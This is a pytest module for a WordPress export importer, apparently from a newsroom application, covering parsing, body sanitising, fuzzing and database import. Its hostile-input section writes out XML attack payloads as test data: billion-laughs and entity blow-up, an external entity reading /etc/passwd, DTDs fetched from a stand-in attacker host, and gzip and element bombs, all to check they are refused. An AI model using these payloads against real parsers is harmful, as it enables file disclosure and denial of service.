"""The WordPress export importer: a company blog written for these tests, WordPress's own theme
test export, hostile XML, and the persistence path.

Parser tests are pure; the ones marked ``django_db`` go through ``import_sources``.
"""

from __future__ import annotations

import collections
import datetime as dt
import gzip
import html
import io
import re
import sys
import time
import tracemalloc
import xml.etree.ElementTree as ET
import zoneinfo
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newscenter.importers.parsers import wxr
from newscenter.importers.parsers.base import (
    HEAD_BYTES,
    ImportedArticle,
    ImportParseError,
    ParseOptions,
    SkippedItem,
)
from newscenter.importers.parsers.wxr import PART_ELEMENTS, PART_LIMIT, parser
from newscenter.importers.parsers.wxr_content import MAX_MARKUP_TAGS, body_html
from newscenter.news.policy import SYSTEM

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "wxr"
BLOG = FIXTURES / "norrvik_blog.xml"
THEME = (
    Path(__file__).resolve().parents[2].parent
    / "shared" / "fixtures" / "wordpress" / "themeunittestdata.wordpress.xml"
)  # fmt: skip
THEME_WP = "{https://wordpress.org/export/1.2/}"
STOCKHOLM = ParseOptions(time_zone="Europe/Stockholm")
SITE = "wxr:https://blog.norrvik-pumps.example"
UTC = dt.UTC


def parse(data: bytes, options: ParseOptions = STOCKHOLM, origin: str = "blog.xml") -> list:
    return list(parser.parse(data, origin=origin, options=options))


def articles(items: list) -> dict[str, ImportedArticle]:
    return {item.where: item for item in items if isinstance(item, ImportedArticle)}


def skips(items: list) -> list[tuple[str, str]]:
    return [(item.where, item.reason) for item in items if isinstance(item, SkippedItem)]


def squeeze(body: str) -> str:
    """Body HTML without the whitespace between tags, for exact comparisons."""
    return re.sub(r">\s+<", "><", body)


@pytest.fixture(scope="module")
def blog() -> list:
    return parse(BLOG.read_bytes())


@pytest.fixture(scope="module")
def posts(blog) -> dict[str, ImportedArticle]:
    return articles(blog)


# --- the company blog ---------------------------------------------------------------------------


def test_blog_yields_every_item_in_file_order(blog):
    assert [item.where for item in blog] == [
        "post 101", "post 101, comment 11", "post 101, comment 12", "post 102", "post 103",
        "post 104", "post 105", "post 106", "post 202", "post 107", "post 108", "post 109",
        "post 110", "post 110, comment 13", "post 111", "post 112", "post 201",
    ]  # fmt: skip


def test_what_is_not_a_post_is_skipped_with_its_kind(blog):
    assert skips(blog) == [
        ("post 101, comment 11", "comment"),
        ("post 101, comment 12", "comment"),
        ("post 106", "trash"),
        ("post 202", "attachment"),
        ("post 110", "page"),
        ("post 110, comment 13", "comment"),
        ("post 111", "nav_menu_item"),
        ("post 112", "product"),
        ("post 201", "attachment"),
    ]


def test_published_block_editor_post(posts):
    fair = posts["post 101"]
    assert fair.headline == "Norrvik Pumps at the Baltic Water Fair"
    assert fair.source_key == f"{SITE}:101"
    assert fair.pub_date == dt.datetime(2024, 5, 14, 7, 30, tzinfo=UTC)
    assert fair.status == "published"
    assert fair.standfirst == "Three days, one stand and the new NP-40."
    assert (fair.section, fair.tags) == ("Company news", ["Events", "Trade fair", "Pumps"])
    assert fair.authors == ["Anna Lindqvist"]
    assert fair.language == "en-GB"
    assert (fair.origin, fair.where, fair.notes) == ("blog.xml", "post 101", [])
    # The attachment comes after the post in the file: found by the first pass.
    assert fair.lead_image_url == (
        "https://blog.norrvik-pumps.example/wp-content/uploads/2024/05/stand-b12.jpg"
    )
    assert fair.lead_image_alt == "Our stand with the cut-away NP-40"
    assert squeeze(fair.body_html) == (
        "<p>From 14 to 16 May our team shows the <strong>NP-40</strong> circulation pump in "
        "hall 3, stand B12.</p><h3>What visitors can see</h3>"
        "<ul><li>A cut-away NP-40</li><li>Live energy readings</li></ul>"
        '<p>Book a meeting with <a href="https://blog.norrvik-pumps.example/contact/" '
        'rel="noopener noreferrer nofollow">our sales team</a>.</p>'
    )  # block comments, the separator block's markup-less comment, script and onclick: gone


def test_original_is_the_item_with_wordpress_prefixes(posts):
    original = posts["post 101"].original
    assert original.startswith("<item")
    assert "<wp:post_id>101</wp:post_id>" in original
    assert "<dc:creator>anna</dc:creator>" in original
    assert "ns0:" not in original


def test_classic_draft_gets_paragraphs_and_its_local_date(posts):
    draft = posts["post 102"]
    assert draft.status == "draft"
    # post_date_gmt is zero for unpublished drafts: post_date is local time.
    assert draft.pub_date == dt.datetime(2024, 6, 3, 10, 15, tzinfo=ZoneInfo("Europe/Stockholm"))
    assert (draft.section, draft.tags, draft.authors) == ("R&D", [], ["Björn Ek"])
    assert draft.body_html == (
        "<p>Before the first frost, check three things on every outdoor pump.</p>\n"
        "<p>Drain the housing.<br>\nClose the suction valve.<br>\nFit the insulation jacket.</p>\n"
        "<ul>\n<li>Spare seals</li>\n<li>Jacket size chart</li>\n</ul>\n"
        "<pre>np40 --drain\nnp40 --lock</pre>\n"
        "<p>Call us when in doubt.</p>"
    )


def test_future_post_is_published_with_its_future_date(posts):
    launch = posts["post 103"]
    assert (launch.status, launch.pub_date) == (
        "published",
        dt.datetime(2031, 10, 1, 6, 0, tzinfo=UTC),
    )
    assert launch.notes == []


def test_private_post_is_a_draft_with_a_note(posts):
    minutes = posts["post 104"]
    assert minutes.status == "draft"
    assert minutes.notes == ["private in WordPress: imported as a draft"]
    assert minutes.pub_date == dt.datetime(2024, 4, 30, 14, 0, tzinfo=UTC)


def test_pending_post_without_any_date(posts):
    guest = posts["post 105"]
    assert (guest.status, guest.pub_date) == ("draft", None)
    assert guest.authors == ["ghostwriter"]  # no wp:author entry: the login itself
    assert (guest.section, guest.tags) == ("", ["District heating"])
    assert guest.body_html == "<p>Waiting for review.</p>"


def test_shortcodes_html_title_and_earlier_attachment(posts):
    line = posts["post 107"]
    assert line.headline == "Meet the new pump & valve line"
    assert line.standfirst == "A line of pumps & valves for district heating."
    assert (line.section, line.tags) == ("R&D", ["Pumps"])  # post_format is not a tag
    assert line.lead_image_url.endswith("/2024/05/valve-hall.jpg")
    assert line.lead_image_alt == "Valve Hall Model"  # no alt text: the attachment's title
    assert squeeze(line.body_html) == (
        '<figure><a href="https://blog.norrvik-pumps.example/valve-hall-model/" '
        'rel="noopener noreferrer nofollow"><img '
        'src="https://blog.norrvik-pumps.example/wp-content/uploads/2024/05/valve-hall.jpg" '
        'alt="Model of the valve hall" width="800" height="450"></a>'
        "<figcaption>The valve hall, as a model</figcaption></figure>"
        "<p>Our new line was shown to partners today.</p>"
        '<p>[gallery ids="202,203,204"]</p>'
        '<p><a href="https://video.norrvik-pumps.example/watch/np-line" '
        'rel="noopener noreferrer nofollow">https://video.norrvik-pumps.example/watch/np-line</a></p>'
        '<p>[contact-form-7 id="9" title="Ask us"]</p>'
    )
    assert line.notes == [
        "shortcode [embed] turned into a link",
        "shortcode [gallery] left as text",
        "shortcode [contact-form-7] left as text",
    ]


def test_empty_title_is_untitled_with_a_note(posts):
    untitled = posts["post 108"]
    assert untitled.headline == "(untitled)"
    assert untitled.notes == ["no title in WordPress: the headline is (untitled)"]
    assert untitled.status == "published"


def test_password_protected_and_sticky(posts):
    prices = posts["post 109"]
    assert prices.status == "draft"
    assert prices.notes == [
        "password-protected in WordPress: imported as a draft",
        "sticky in WordPress: newscenter does not pin articles, so it is not pinned",
    ]


def test_a_stream_read_once_misses_later_featured_images_and_says_so():
    class OneWay(io.RawIOBase):
        def __init__(self, data: bytes) -> None:
            self.inner = io.BytesIO(data)

        def readable(self) -> bool:
            return True

        def readinto(self, buffer) -> int:
            chunk = self.inner.read(len(buffer))
            buffer[: len(chunk)] = chunk
            return len(chunk)

    posts = articles(parse(OneWay(BLOG.read_bytes())))
    assert posts["post 101"].lead_image_url == ""
    assert posts["post 101"].notes == [
        "the featured image (attachment 201) comes after the post, and this input could be read "
        "only once: no lead image"
    ]
    assert posts["post 107"].lead_image_url.endswith("/valve-hall.jpg")  # seen before its post


@pytest.mark.parametrize("bound", ["HELD_ITEMS", "HELD_CHARS"])
def test_posts_waiting_for_featured_images_past_the_bound_read_the_file_again(bound, monkeypatch):
    as_read = parse(BLOG.read_bytes())
    monkeypatch.setattr(wxr, bound, 1)  # the first post that waits sends for every attachment
    again = parse(BLOG.read_bytes())
    assert [vars(item) for item in again] == [vars(item) for item in as_read]
    assert articles(again)["post 101"].lead_image_url.endswith("/stand-b12.jpg")


def _channel(*parts: str) -> bytes:
    return (
        f'<rss {WP_NS} xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<link>https://s.example</link>{''.join(parts)}</channel></rss>"
    ).encode()


_KIM = (
    "<wp:author><wp:author_login>kim</wp:author_login>"
    "<wp:author_display_name>Kim Sand</wp:author_display_name></wp:author>"
)
_POST = (
    "<item><title>Post {0}</title><dc:creator>kim</dc:creator><wp:post_id>{0}</wp:post_id>"
    "<wp:post_type>post</wp:post_type><wp:status>draft</wp:status><wp:postmeta>"
    "<wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>{1}</wp:meta_value></wp:postmeta>"
    "</item>"
)
_IMAGE = (
    "<item><title>Gate {0}</title><wp:post_id>{0}</wp:post_id>"
    "<wp:post_type>attachment</wp:post_type>"
    "<wp:attachment_url>https://s.example/{0}.jpg</wp:attachment_url></item>"
)


def test_a_post_waits_for_its_featured_image_and_keeps_its_place_and_channel():
    items = parse(_channel(_POST.format(7, 8), _KIM, _POST.format(9, 0), _IMAGE.format(8)))
    assert [item.where for item in items] == ["post 7", "post 9", "post 8"]
    first, second = items[0], items[1]
    assert first.lead_image_url == "https://s.example/8.jpg"
    # Read before the channel named its authors: the login, as when the file was read twice.
    assert (first.authors, second.authors) == (["kim"], ["Kim Sand"])
    assert second.notes == ["the featured image (attachment 0) is not in the export"]


def test_source_keys_name_the_blog():
    data = BLOG.read_bytes()
    assert articles(parse(data))["post 101"].source_key == f"{SITE}:101"
    other = data.replace(b"blog.norrvik-pumps.example</wp:base_blog_url>", b"b.example/</wp:base")
    other = other.replace(b"</wp:base\n", b"</wp:base_blog_url>\n")
    assert articles(parse(other))["post 101"].source_key == "wxr:https://b.example:101"


def test_detect():
    assert parser.detect(BLOG.read_bytes()[:HEAD_BYTES])
    assert not parser.detect(b'<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>')
    assert not parser.detect(b"Plant opens\n\nNov 28, 2023\n\nText.")
    assert not parser.detect(b"")


def test_unknown_time_zone_is_refused():
    with pytest.raises(ImportParseError, match="unknown time zone"):
        parse(BLOG.read_bytes(), options=ParseOptions(time_zone="Mars/Olympus"))


# --- body conversion ---------------------------------------------------------------------------


BODIES = {
    "classic paragraphs and line breaks": (
        "One\ntwo\n\nThree",
        "<p>One<br>\ntwo</p><p>Three</p>",
        [],
    ),
    "classic text around a block element": (
        "Before <blockquote>inside</blockquote> after",
        "<p>Before</p><blockquote>inside</blockquote><p>after</p>",
        [],
    ),
    "blocks are not autop-ed": (
        "<!-- wp:paragraph -->\n<p>One\ntwo</p>\n<!-- /wp:paragraph -->",
        "<p>One\ntwo</p>",
        [],
    ),
    "more tag and h1": ("<h1>Top</h1>\n<!--more-->\nRest", "<h2>Top</h2><p>Rest</p>", []),
    "caption without an image stays": (
        "[caption]Just words[/caption]",
        "<p>[caption]Just words[/caption]</p>",
        ["shortcode [caption] left as text"],
    ),
    "old caption attribute": (
        '[caption caption="Dock 4"]<img src="https://a.example/d.jpg" alt="Dock">[/caption]',
        '<figure><img src="https://a.example/d.jpg" alt="Dock"><figcaption>Dock 4</figcaption>'
        "</figure>",
        [],
    ),
    "embed of a non-web address stays": (
        "[embed]javascript:alert(1)[/embed]",
        "<p>[embed]javascript:alert(1)[/embed]</p>",
        ["shortcode [embed] left as text"],
    ),
    "a web address alone on its line is an embed": (
        "Our film:\nhttps://video.example/watch?v=1&amp;t=2\n\nhttps://x.example/a in a sentence",
        '<p>Our film:<br><a href="https://video.example/watch?v=1&amp;t=2" '
        'rel="noopener noreferrer nofollow">https://video.example/watch?v=1&amp;t=2</a></p>'
        "<p>https://x.example/a in a sentence</p>",
        ["a web address on a line of its own (a player in WordPress) became a link"],
    ),
    "a lone address in capitals is text, as WordPress leaves it": (
        "Our film:\nHTTPS://VIDEO.EXAMPLE/1\n",
        "<p>Our film:<br>\nHTTPS://VIDEO.EXAMPLE/1</p>",
        [],
    ),
    "an embed made a link and a lone address after it": (
        "[embed]https://v.example/1[/embed]\nhttps://v.example/2",
        '<p><a href="https://v.example/1" rel="noopener noreferrer nofollow">https://v.example/1'
        '</a></p><p><a href="https://v.example/2" rel="noopener noreferrer nofollow">'
        "https://v.example/2</a></p>",
        [
            "shortcode [embed] turned into a link",
            "a web address on a line of its own (a player in WordPress) became a link",
        ],
    ),
    "square brackets that are not shortcodes": (
        "Pumps [sic] and [1]",
        "<p>Pumps [sic] and [1]</p>",
        [],
    ),
    "unclosed shortcode": (
        '[gallery ids="1"',
        '<p>[gallery ids="1"</p>',
        ["shortcode [gallery] left as text"],
    ),
}


@pytest.mark.parametrize(("content", "expected", "notes"), BODIES.values(), ids=BODIES.keys())
def test_body_conversion(content, expected, notes):
    body, noted = body_html(content)
    assert (squeeze(body), noted) == (expected, notes)


def test_markup_too_large_for_the_sanitiser_becomes_plain_text():
    # The sanitiser's parser is quadratic in nesting depth: this would take minutes.
    nested = "<div>" * (MAX_MARKUP_TAGS + 1) + "Deep words & more\n\nSecond"
    body, notes = body_html(nested)
    assert body == "<p>Deep words &amp; more</p><p>Second</p>"
    assert notes == ["the post has more than 10,000 tags: imported as plain text"]


# --- WordPress's theme unit test export ---------------------------------------------------------


@pytest.fixture(scope="module")
def theme_xml() -> bytes:
    if not THEME.exists():
        pytest.skip(f"the theme test export is not at {THEME}")
    return THEME.read_bytes()


@pytest.fixture(scope="module")
def theme_items(theme_xml) -> list:
    return parse(theme_xml, options=ParseOptions(), origin=THEME.name)


@pytest.fixture(scope="module")
def theme_tree(theme_xml) -> list[ET.Element]:
    # Counted independently of the importer: the whole file through plain ElementTree.
    return ET.fromstring(theme_xml).find("channel").findall("item")  # noqa: S314 (our fixture)


def wp(item: ET.Element, name: str) -> str:
    return (item.findtext(THEME_WP + name) or "").strip()


def test_theme_every_post_is_an_article(theme_items, theme_tree):
    post_ids = {wp(item, "post_id") for item in theme_tree if wp(item, "post_type") == "post"}
    assert len(post_ids) == 51
    assert set(articles(theme_items)) == {f"post {post_id}" for post_id in post_ids}


def test_theme_statuses(theme_items, theme_tree):
    posts = [item for item in theme_tree if wp(item, "post_type") == "post"]
    wordpress = collections.Counter(wp(item, "status") for item in posts)
    protected = sum(1 for item in posts if wp(item, "post_password"))
    counted = collections.Counter(article.status for article in articles(theme_items).values())
    assert counted == {
        "published": wordpress["publish"] + wordpress["future"] - protected,
        "draft": wordpress["draft"] + protected,
    }
    scheduled = articles(theme_items)["post 1153"]  # "future" in WordPress
    assert (scheduled.status, scheduled.pub_date) == (
        "published",
        dt.datetime(2030, 1, 1, 19, 0, 18, tzinfo=UTC),
    )


def test_theme_every_category_and_tag_is_kept(theme_items, theme_tree):
    used = {
        " ".join(html.unescape(category.text or "").split()).lower()
        for item in theme_tree
        if wp(item, "post_type") == "post"
        for category in item.findall("category")
        if category.get("domain") in ("category", "post_tag")
    }
    kept = set()
    for article in articles(theme_items).values():
        kept |= {name.lower() for name in [article.section, *article.tags] if name}
    assert len(used) == 121  # case-insensitively distinct names
    assert kept == used


def test_theme_both_authors(theme_items):
    authors = collections.Counter(
        name for article in articles(theme_items).values() for name in article.authors
    )
    assert set(authors) == {"Theme Buster", "Theme Reviewer"}
    assert sum(authors.values()) == 51


def test_theme_every_other_item_is_skipped_with_its_type(theme_items, theme_tree):
    others = collections.Counter(
        (f"post {wp(item, 'post_id')}", wp(item, "post_type"))
        for item in theme_tree
        if wp(item, "post_type") != "post"
    )
    assert others.total() == 180 - 51  # 18 menu items appear twice in the file, ids and all
    assert others <= collections.Counter(skips(theme_items))
    comments = sum(len(item.findall(THEME_WP + "comment")) for item in theme_tree)
    assert sum(1 for _, reason in skips(theme_items) if reason == "comment") == comments


def test_theme_bodies_are_safe(theme_items):
    bodies = [article.body_html for article in articles(theme_items).values()]
    assert sum(map(bool, bodies)) > 40
    for body in bodies:
        assert "<script" not in body.lower()
        assert "<!-- wp:" not in body
        assert not re.search(r"<[^>]*\son[a-z]+\s*=", body, re.IGNORECASE)


def test_theme_featured_images(theme_items):
    posts = articles(theme_items)
    assert posts["post 1011"].lead_image_url.endswith("/featured-image-horizontal.jpg")
    assert posts["post 1011"].lead_image_alt == "Horizontal Featured Image"
    assert posts["post 1016"].lead_image_url.endswith("/featured-image-vertical.jpg")


def test_theme_edge_cases(theme_items):
    posts = articles(theme_items)
    assert posts["post 1173"].headline == "Markup: Title With Markup"
    assert "<h2>H1 Heading</h2>" in posts["post 1730"].body_html  # the page's h1 is the headline
    assert posts["post 1169"].headline == "(untitled)"
    assert posts["post 1163"].body_html.startswith("<figure>")
    assert "<figcaption>Bell on wharf in San Francisco</figcaption>" in posts["post 1163"].body_html
    assert posts["post 1241"].notes == [
        "sticky in WordPress: newscenter does not pin articles, so it is not pinned"
    ]
    keys = {article.source_key.rpartition(":")[0] for article in posts.values()}
    assert keys == {"wxr:https://wpthemetestdata.wordpress.com"}  # the blog, not wordpress.com


# --- hostile input ------------------------------------------------------------------------------

WP_NS = 'xmlns:wp="http://wordpress.org/export/1.2/"'
ITEM = "<item><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type><title>{}</title></item>"


def _laughs() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    )
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [{entities}]>\n'
        f"<rss {WP_NS}><channel>{ITEM.format('&lol9;')}</channel></rss>"
    ).encode()


def _quadratic() -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{"x" * 100_000}">]>\n'
        f"<rss {WP_NS}><channel>{ITEM.format('&a;' * 100_000)}</channel></rss>"
    ).encode()


def _declared(encoding: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?><rss {WP_NS}><channel/></rss>'.encode()


ELEMENTS = "<a/>" * (PART_ELEMENTS + 1)
DEEP = "<b>" * 50_000 + "</b>" * 50_000
HOSTILE = {
    "billion laughs": (_laughs(), "declares a DTD"),
    "quadratic blow-up": (_quadratic(), "declares a DTD"),
    "external entity": (
        (
            '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
            f"\n<rss {WP_NS}><channel>{ITEM.format('&passwd;')}</channel></rss>"
        ).encode(),
        "declares a DTD",
    ),
    "external DTD": (
        (
            '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://dtd.attacker.example/wxr.dtd">'
            f"\n<rss {WP_NS}><channel>{ITEM.format('x')}</channel></rss>"
        ).encode(),
        "declares a DTD",
    ),
    "parameter entity": (
        (
            '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % remote SYSTEM '
            '"http://dtd.attacker.example/x.dtd"> %remote;]>'
            f"\n<rss {WP_NS}><channel></channel></rss>"
        ).encode(),
        "declares a DTD",
    ),
    "truncated file": (BLOG.read_bytes()[:4000], "it looks truncated"),
    "gzip bomb": (gzip.compress(b"\0" * 20_000_000), "gzip-compressed"),
    "non-WXR RSS": (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Plant news</title>'
        b"<item><title>Line 2 opens</title></item></channel></rss>",
        "an RSS feed, not a WordPress export",
    ),
    "Atom feed": (
        b'<feed xmlns="http://www.w3.org/2005/Atom"><title>Plant news</title></feed>',
        "the document is <feed>, not <rss>",
    ),
    "plain text": (b"Plant opens\n\nToday the plant opened.", "not well-formed XML at line 1"),
    "HTML entity outside CDATA": (
        f"<rss {WP_NS}>\n<channel>\n{ITEM.format('A&nbsp;B')}</channel></rss>".encode(),
        "line 3, column 73: undefined entity",
    ),
    "unknown encoding": (_declared("U0F-8"), "declared encoding cannot be read"),
    "multi-byte encoding": (_declared("shift_jis"), "declared encoding cannot be read"),
    "element bomb": (
        f"<rss {WP_NS}><channel><item>{ELEMENTS}</item></channel></rss>".encode(),
        f"an item has more than {PART_ELEMENTS:,} elements",
    ),
    "deep nesting": (
        f"<rss {WP_NS}><channel><item>{DEEP}</item></channel></rss>".encode(),
        "nested deeper than 64 levels",
    ),
}


class AuditWatch:
    """Records file opens and connections made while it watches (audit hooks cannot be removed).

    Python's own modules (a codec imported on first use) and the time zone database (a zone
    read on first use) are not the input reaching out.
    """

    events: list = []
    watching = False
    python = (sys.prefix, sys.base_prefix, *zoneinfo.TZPATH)

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        if not cls.watching or event not in ("open", "socket.connect", "urllib.Request"):
            return
        if event == "open" and str(args[0]).startswith(cls.python):
            return
        cls.events.append((event, args))


sys.addaudithook(AuditWatch.hook)


@pytest.mark.parametrize(("data", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_is_refused_quickly_without_io(data, message):
    AuditWatch.events.clear()
    AuditWatch.watching = True
    began = time.perf_counter()
    try:
        with pytest.raises(ImportParseError, match=re.escape(message)) as refused:
            parse(data, origin="upload.xml")
    finally:
        AuditWatch.watching = False
    assert refused.value.where == "upload.xml"
    assert AuditWatch.events == []
    # A hang guard, not a speed figure: an expanding entity or an unbounded tree would run for
    # minutes or exhaust memory; a refusal takes well under a second to a few seconds on a busy
    # machine (the element bomb parses 200,000 elements before it is refused).
    assert time.perf_counter() - began < 60


def test_an_item_over_the_size_limit_is_refused_before_it_is_all_read():
    class Endless(io.RawIOBase):
        """A WXR whose one item's content never ends: 20 MB of it is read, then refused."""

        head = f"<rss {WP_NS}><channel><item><content>".encode()
        served = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer) -> int:
            chunk = self.head if self.served == 0 else b"x" * len(buffer)
            chunk = chunk[: len(buffer)]
            buffer[: len(chunk)] = chunk
            self.served += len(chunk)
            return len(chunk)

    stream = Endless()
    tracemalloc.start()
    try:
        with pytest.raises(ImportParseError, match="item 1 is larger than 20 MB"):
            parse(stream)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert PART_LIMIT <= stream.served <= PART_LIMIT + 1024 * 1024
    assert peak < 80 * 1024 * 1024


# --- fuzzing ------------------------------------------------------------------------------------

SMALL = (
    f'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" {WP_NS} '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><link>https://s.example</link>'
    "<wp:author><wp:author_login>kim</wp:author_login>"
    "<wp:author_display_name>Kim Sand</wp:author_display_name></wp:author>"
    "<item><title>Open day &amp; tour</title><dc:creator>kim</dc:creator>"
    "<content:encoded><![CDATA[<!-- wp:paragraph --><p>Come by.</p><!-- /wp:paragraph -->"
    '\n\n[caption]<img src="https://s.example/a.jpg"> Gate[/caption]]]></content:encoded>'
    "<wp:post_id>7</wp:post_id><wp:post_date_gmt>2024-05-01 08:00:00</wp:post_date_gmt>"
    "<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>"
    '<category domain="category"><![CDATA[Events]]></category>'
    "<wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>8</wp:meta_value>"
    "</wp:postmeta><wp:comment><wp:comment_id>3</wp:comment_id></wp:comment></item>"
    "<item><title>Gate</title><wp:post_id>8</wp:post_id><wp:post_type>attachment</wp:post_type>"
    "<wp:attachment_url>https://s.example/a.jpg</wp:attachment_url></item>"
    "</channel></rss>"
).encode()


def parse_or_refuse(data: bytes) -> None:
    try:
        items = parse(data)
    except ImportParseError as refused:
        items = [refused]
    for item in items:
        assert isinstance(item, ImportedArticle | SkippedItem | ImportParseError)
        if isinstance(item, ImportParseError):
            assert item.message
        elif isinstance(item, ImportedArticle):
            assert item.pub_date is None or item.pub_date.tzinfo is not None
            assert "<script" not in item.body_html


def test_the_fuzzing_seed_is_valid():
    items = parse(SMALL)
    assert [(type(item).__name__, item.where) for item in items] == [
        ("ImportedArticle", "post 7"),
        ("SkippedItem", "post 7, comment 3"),
        ("SkippedItem", "post 8"),
    ]
    assert articles(items)["post 7"].lead_image_url == "https://s.example/a.jpg"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_random_bytes_are_refused_or_read(data):
    parse_or_refuse(data)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(st.integers(0, len(SMALL)), st.integers(0, 8), st.binary(max_size=8)),
        min_size=1,
        max_size=6,
    )
)
def test_mutated_exports_are_refused_or_read(edits):
    data = SMALL
    for at, cut, insert in edits:
        data = data[:at] + insert + data[at + cut :]
    parse_or_refuse(data)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_post_content_comes_out_sanitised(content):
    cdata = content.replace("]]>", "]]]]><![CDATA[>")
    cdata = "".join(ch for ch in cdata if ch in "\t\n\r" or ch >= " ")  # XML's characters
    cdata = re.sub("[\ud800-\udfff\ufffe\uffff]", "", cdata)
    data = SMALL.replace(
        b"<!-- wp:paragraph --><p>Come by.</p><!-- /wp:paragraph -->",
        f"{cdata}<script>x()</script>".encode(),
    )
    parse_or_refuse(data)


# --- through the persistence path ---------------------------------------------------------------


@pytest.fixture
def wxr_format(settings):
    # The lead registers "wxr" in the registry; until then these tests register it themselves.
    settings.NEWSCENTER_IMPORT_FORMATS = {"wxr": "newscenter.importers.parsers.wxr"}


def import_file(path: Path):
    from newscenter.importers.run import ImportOptions, Source, import_sources

    return import_sources(
        [Source(name=path.name, path=path)], options=ImportOptions(format="wxr"), acting_user=SYSTEM
    )


@pytest.mark.django_db
@pytest.mark.usefixtures("wxr_format")
def test_theme_import_is_idempotent(theme_items):
    from newscenter.importers.run import UNCHANGED
    from newscenter.news.models import Article

    expected = len(articles(theme_items))
    first = import_file(THEME)
    assert first.failed == []
    assert len(first.created) == expected
    assert Article.objects.count() == expected
    again = import_file(THEME)
    assert (again.failed, again.created, again.updated) == ([], [], [])
    assert sum(1 for _, reason in again.skipped if reason == UNCHANGED) == expected
    assert Article.objects.count() == expected


@pytest.mark.django_db
@pytest.mark.usefixtures("wxr_format")
def test_theme_drafts_stay_unpublished_and_future_posts_are_scheduled():
    from newscenter.news.models import Article

    assert import_file(THEME).failed == []
    key = "wxr:https://wpthemetestdata.wordpress.com:"
    published = set(Article.objects.published().values_list("import_key", flat=True))
    assert f"{key}1164" not in published  # "Draft"
    assert f"{key}1168" not in published  # password-protected
    assert f"{key}1011" in published
    # "future" in WordPress: published, dated 2030-01-01 19:00:18 UTC, so stored as scheduled.
    scheduled = Article.objects.filter(import_key=f"{key}1153")
    assert scheduled.get().status == "scheduled"
    assert not scheduled.published(at=dt.datetime(2030, 1, 1, 19, 0, tzinfo=UTC)).exists()
    assert scheduled.published(at=dt.datetime(2030, 1, 1, 19, 1, tzinfo=UTC)).exists()


@pytest.mark.django_db
@pytest.mark.usefixtures("wxr_format")
def test_blog_import_reports_skips_and_notes_and_keeps_provenance():
    from newscenter.news.models import Article

    report = import_file(BLOG)
    assert report.failed == []
    assert len(report.created) == 8
    assert collections.Counter(reason for _, reason in report.skipped) == {
        "comment": 3, "attachment": 2, "trash": 1, "page": 1, "nav_menu_item": 1, "product": 1,
    }  # fmt: skip
    assert ("norrvik_blog.xml (post 104): Board minutes, April",
            "private in WordPress: imported as a draft") in report.notes  # fmt: skip
    fair = Article.objects.get(import_key=f"{SITE}:101")
    assert fair.section.name == "Company news"
    assert sorted(fair.tags.values_list("name", flat=True)) == ["Events", "Pumps", "Trade fair"]
    assert list(fair.authors.values_list("name", flat=True)) == ["Anna Lindqvist"]
    record = fair.import_record
    assert (record.format, record.where) == ("wxr", "post 101")
    assert record.lead_image_url.endswith("/stand-b12.jpg")
    assert "<wp:post_id>101</wp:post_id>" in record.original
    assert not Article.objects.published().filter(import_key=f"{SITE}:105").exists()
